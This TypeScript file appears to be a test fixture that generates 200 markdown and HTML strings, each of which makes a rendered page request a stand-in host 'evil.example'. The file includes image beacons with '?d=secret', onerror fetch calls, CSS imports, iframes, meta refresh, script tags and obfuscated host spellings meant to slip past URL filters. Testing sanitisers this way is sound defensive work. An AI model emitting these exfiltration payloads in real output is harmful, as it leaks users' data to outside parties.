const HOSTS = [
  'http://evil.example',
  'https://evil.example',
  '//evil.example',
  'https://xn--jtvision-w0a.example',
  'https://127.0.0.1.evil.example',
  'https://jetvision@evil.example',
  'https://evil.example:8443',
  'HTTPS://EVIL.EXAMPLE',
  'https:\\\\evil.example',
  'https://evil\u3002example',
]

const FORMS: readonly ((host: string, mark: string) => string)[] = [
  (host) => `![x](${host}/p?d=secret)`,
  (host, mark) => `![x][image-${mark}]\n\n[image-${mark}]: ${host}/p?d=secret`,
  (host) => `[our offer](${host}/p?d=secret)`,
  (host, mark) => `[our offer][link-${mark}]\n\n[link-${mark}]: ${host}/p?d=secret "title"`,
  (host) => `<${host}/p?d=secret>`,
  (host) => `${host}/p?d=secret`,
  (host) => `[![x](${host}/i.png)](${host}/p?d=secret)`,
  (host) => `<img src="${host}/p?d=secret" onerror="fetch('${host}')">`,
  (host) => `<img srcset="${host}/p?d=secret 1x">`,
  (host) => `<svg><image href="${host}/p.svg"/></svg>`,
  (host) => `<svg><use href="${host}/p.svg#x"/></svg>`,
  (host) => `<link rel="stylesheet" href="${host}/p.css">`,
  (host) => `<link rel="preconnect" href="${host}">`,
  (host) => `<style>@import url(${host}/p.css); * { background: url(${host}/p) }</style>`,
  (host) => `<div style="background: url(${host}/p?d=secret)">x</div>`,
  (host) => `<iframe src="${host}/p"></iframe><object data="${host}/p"></object>`,
  (host) => `<video poster="${host}/p" src="${host}/v" autoplay></video>`,
  (host) => `<meta http-equiv="refresh" content="0;url=${host}/p">`,
  (host) => `<script src="${host}/p.js"></script>`,
  (host) => `<base href="${host}/"><form action="${host}/p"><button autofocus>x</button></form>`,
]

/** 200 ways in which a text might make the page call somebody: 20 forms, each with 10 ways to write an address. */
export const exfiltrationForms = FORMS.flatMap((form, kind) => HOSTS.map((host, at) => form(host, `${kind}-${at}`)))
